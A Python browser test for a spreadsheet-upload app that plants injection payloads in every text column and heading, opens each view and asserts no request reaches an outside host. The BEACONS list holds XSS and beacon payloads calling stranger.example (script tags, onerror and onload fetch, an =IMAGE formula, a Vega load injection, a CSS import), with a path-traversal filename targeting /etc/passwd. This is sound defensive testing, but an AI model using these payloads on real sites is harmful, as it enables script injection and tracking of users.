"""Beacons planted in every text of a sheet: whoever opens it must not be told on.

A beacon is anything by which a text could make the page ask a stranger's server for something. The
test walks through all the page can show of the sheet, and nothing may leave its own origin.
"""

import csv
import io

import pytest

from advisor.rules.columns import COLUMNS, Field
from tests.browser.test_journey import settle, upload

pytestmark = pytest.mark.browser

STRANGER = "http://stranger.example"
BEACONS = (
    f"![seen]({STRANGER}/markdown.png)",
    f"[open me]({STRANGER}/link)",
    f"[seen]: {STRANGER}/reference",
    f"<img src={STRANGER}/image.png onerror=fetch('{STRANGER}/error')>",
    f"<svg onload=\"fetch('{STRANGER}/svg')\"></svg>",
    f"<iframe src={STRANGER}/frame></iframe>",
    f"<style>@import url({STRANGER}/style.css);</style>",
    f"<link rel=prefetch href={STRANGER}/prefetch>",
    f"<script src={STRANGER}/script.js></script>",
    f"javascript:fetch('{STRANGER}/javascript')",
    f"data:text/html,<script>fetch('{STRANGER}/data')</script>",
    f'=IMAGE("{STRANGER}/formula.png")',
    f'{{"expr": "load(\'{STRANGER}/vega\')"}}',
    f"datum.x); load('{STRANGER}/expression'); (",
    f"$$\\includegraphics{{{STRANGER}/latex.png}}$$",
    f":red-background[![seen]({STRANGER}/directive.png)] :material/home:",
    "\\\\stranger.example\\share\\seen",
    f"url({STRANGER}/css.png)",
)
"""Each in the hand of whoever wrote the invite."""

TEXTS = (Field.COMPANY, Field.ROLE, Field.LOCATION, Field.CONTACT, Field.LINK, Field.NOTES)
NAMES = ("../../../etc/passwd.csv", f"<img src={STRANGER}>.csv")
LIT = (
    "img[src*=stranger], iframe, link[href*=stranger], script[src*=stranger], [onload], [onerror],"
    "a[href*=stranger]:not([href^='mailto:']), a[href^='javascript:'], a[href^='data:text']"
)
"""Elements by which a beacon would be lit, now or by a click; a reply may hold its words."""

LOOKS = ("Compare", "Pin this ranking", "Map", "Money and time")
FEWEST_OPENED = 9
"""The sheet's report, the closer looks, the folds of an opened invite."""


def planted() -> bytes:
    """A sheet with one row a beacon in every column of text, and beacons for headings."""
    lines = io.StringIO()
    writer = csv.writer(lines)
    labels = [COLUMNS[key].label for key in TEXTS]
    writer.writerow([*labels, "Prep hours willing", "My reason", *BEACONS])
    for beacon in BEACONS:
        writer.writerow([*([beacon] * len(TEXTS)), 6, beacon, *([beacon] * len(BEACONS))])
    return lines.getvalue().encode()


def open_everything(page) -> int:
    """Open the report, each closer look and each fold; returns how many there were."""
    opened = 0
    for role, names in (("switch", ("Check the sheet",)), ("radio", LOOKS)):
        for name in names:
            page.get_by_role(role, name=name).click(force=True)
            settle(page)
            opened += 1
    for fold in page.locator("summary").all():
        fold.click()
        settle(page)
        opened += 1
    return opened


def test_no_beacon_of_a_sheet_is_ever_lit(visit):
    page = visit.page
    windows = []
    page.context.on("page", lambda opened: windows.append(opened.url))
    upload(page, NAMES[0], b"company,role\nAlder,Engineer\n")
    page.get_by_text("1 row read, 1 invite, 0 set aside").wait_for()
    upload(page, NAMES[1], planted())
    page.get_by_role("heading", name=f"{len(BEACONS)} invites").wait_for()
    settle(page)
    assert open_everything(page) >= FEWEST_OPENED
    assert visit.strangers() == []
    assert windows == []
    assert page.locator(LIT).count() == 0
